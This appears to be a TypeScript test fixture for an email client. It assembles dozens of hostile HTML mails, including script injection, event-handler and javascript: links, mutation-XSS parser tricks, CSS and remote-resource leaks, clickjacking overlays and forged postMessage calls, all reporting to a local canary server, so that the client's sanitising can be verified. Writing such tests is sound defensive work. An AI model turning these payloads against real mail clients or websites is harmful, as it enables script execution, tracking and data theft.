/** Hostile HTML mails, and the canary that hears when one of them runs or loads something. */
import { FRAME_SCRIPT } from '../../../src/doors/dashboard/frame-script.ts';

/** By name; each reports to the address of the canary when it gets through. */
export function composeHostile(bird: string): Record<string, string> {
  const run = `fetch('${bird}/ran');new Image().src='${bird}/ran'`;
  const attributeRun = `fetch(&quot;${bird}/ran&quot;)`;

  return {
    script: `<script>${run}</script>`,
    'script in pieces': `<scr<script>ipt>${run}</scr</script>ipt>`,
    'script from elsewhere': `<script src="${bird}/s.js"></script>`,
    'module script': `<script type="module" src="${bird}/m.js"></script>`,
    'on-handlers': `<img src="x" onerror="${attributeRun}"><body onload="${attributeRun}"><details open ontoggle="${attributeRun}">`,
    'handler without spaces': `<img/src=x/onerror=${attributeRun}>`,
    'focus at once': `<input autofocus onfocus="${attributeRun}"><a id=x tabindex=1 onfocusin="${attributeRun}">`,
    'javascript link': `<a href="javascript:${attributeRun}" id="go">click</a>`,
    'javascript link, disguised': `<a href="jav&#x09;ascript:${attributeRun}">c</a><a href=" &#14; javascript:${attributeRun}">c</a>`,
    'data document': `<a href="data:text/html,<script>${run}</script>">c</a><iframe src="data:text/html,<script>${run}</script>"></iframe>`,
    svg: `<svg onload="${attributeRun}"><script>${run}</script><image href="${bird}/svg.png"/><use href="${bird}/use.svg#x"/></svg>`,
    'svg animation': `<svg><a><animate attributeName="href" values="javascript:${attributeRun}"/><text y=20>x</text></a></svg>`,
    mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attributeRun}&gt;">`,
    'mXSS by noscript': `<noscript><p title="</noscript><img src=x onerror=${attributeRun}>">`,
    'mXSS by form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${attributeRun}>`,
    'mXSS by svg style': `<svg></p><style><a id="</style><img src=1 onerror=${attributeRun}>">`,
    'mXSS by template': `<template><s><template><s><img src=x onerror=${attributeRun}>@</s></template></template>`,
    'style that ends early': `<style></style ><img src=x onerror="${attributeRun}"></style>`,
    'comment that ends early': `<!--><img src=x onerror="${attributeRun}">--><!--!><script>${run}</script>-->`,
    'title and textarea': `<title><img src=x onerror=${attributeRun}></title><textarea></textarea><script>${run}</script>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${bird}/refresh">`,
    'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
    base: `<base href="${bird}/"><img src="based.png"><script src="based.js"></script>`,
    'form that sends itself': `<form id="f" action="${bird}/form" method="post"><input name="a" value="b"><button form="f">s</button></form><script>document.forms[0].submit()</script>`,
    'iframe and object': `<iframe src="${bird}/iframe"></iframe><iframe srcdoc="<script>${attributeRun}</script>"></iframe><object data="${bird}/object"></object><embed src="${bird}/embed">`,
    frameset: `<frameset><frame src="${bird}/frame"></frameset>`,
    stylesheet: `<link rel="stylesheet" href="${bird}/l.css"><style>@import url(${bird}/i.css);</style>`,
    'CSS that tells': `<style>input[value^="a"]{background:url(${bird}/css-a)}@font-face{font-family:x;src:url(${bird}/font)}body{font-family:x;background:url(${bird}/css-b)}</style><input value="abc"><p style="background-image:url('${bird}/css-c');list-style:url(${bird}/css-d)">x</p>`,
    prefetch: `<link rel="prefetch" href="${bird}/p"><link rel="preload" as="image" href="${bird}/q"><link rel="preconnect" href="${bird}">`,
    'remote images': `<img src="${bird}/open.gif"><img srcset="${bird}/set.gif 1x"><picture><source srcset="${bird}/source.gif"><img src="x"></picture><input type="image" src="${bird}/input.gif"><table background="${bird}/table.gif"><tr><td>x</td></tr></table><video poster="${bird}/poster.gif" src="${bird}/v.mp4" autoplay></video><audio src="${bird}/a.mp3" autoplay></audio>`,
    'manifest and icon': `<link rel="icon" href="${bird}/icon"><link rel="manifest" href="${bird}/manifest">`,
    'portal, applet, layer': `<portal src="${bird}/portal"></portal><applet code="${bird}/x.class"></applet><bgsound src="${bird}/b.wav">`,
    'more CSS that tells': `<style>@import "${bird}/i2.css";@namespace url(${bird}/ns);p{background:image-set("${bird}/set.png" 1x);cursor:url(${bird}/cur),auto;border-image:url(${bird}/b) 1;mask:url(${bird}/mask.svg#m);filter:url(${bird}/f.svg#f);content:url(${bird}/content)}p::before{content:url(${bird}/before)}@font-face{font-family:y;src:local(x),url(${bird}/font2)}@media (prefers-color-scheme:dark){p{background:url(${bird}/dark)}}@page{background:url(${bird}/page)}</style><p style="font-family:y">x</p>`,
    'cover of everything': `<style>html{overflow:auto!important}div{position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:#fff;cursor:none}</style><div><a href="${bird}/covered" ping="${bird}/ping">Click anywhere</a></div>`,
    'message to the page': `<script>parent.postMessage({mail:{link:'${bird}/forged'}},'*')</script><img src=x onerror="parent.postMessage({mail:{key:'Delete'}},'*')">`,
    'our own script, twice': `<script data-about="{}">${FRAME_SCRIPT}</script><script>${run}</script>`,
    'names of the document': `<img name="body" src="x"><form name="documentElement"></form><a id="parent" name="parent"></a><img id="document" src="x">`,
    'opens the page above': `<script>top.location='${bird}/top';parent.postMessage('ran','*');alert(1)</script>`,
  };
}

/** Gives each mail its own addresses, so that a request shows which mail caused it. */
export function listHostile(bird: string) {
  return Object.keys(composeHostile(bird)).map((name) => {
    const own = `${bird}/${name.replaceAll(' ', '-')}`;
    return { name, html: composeHostile(own)[name]! };
  });
}

/** Answers every request and records it. `unguarded` is HTML that it serves without a policy. */
export function startCanary() {
  /** The requests, with their Referer. */
  const asked: { path: string; referer: string | null }[] = [];
  const canary = { asked, bird: '', unguarded: '', stop: () => server.stop(true) };
  const answer = (request: Request): Response => {
    const { pathname } = new URL(request.url);
    if (pathname === '/unguarded') {
      return new Response(canary.unguarded, { headers: { 'content-type': 'text/html' } });
    }
    if (pathname === '/favicon.ico') return new Response(null, { status: 404 });
    asked.push({ path: pathname, referer: request.headers.get('referer') });
    return new Response('', { headers: { 'access-control-allow-origin': '*' } });
  };
  const server = Bun.serve({ port: 0, hostname: '127.0.0.1', fetch: answer });
  canary.bird = `http://127.0.0.1:${server.port}`;
  return canary;
}
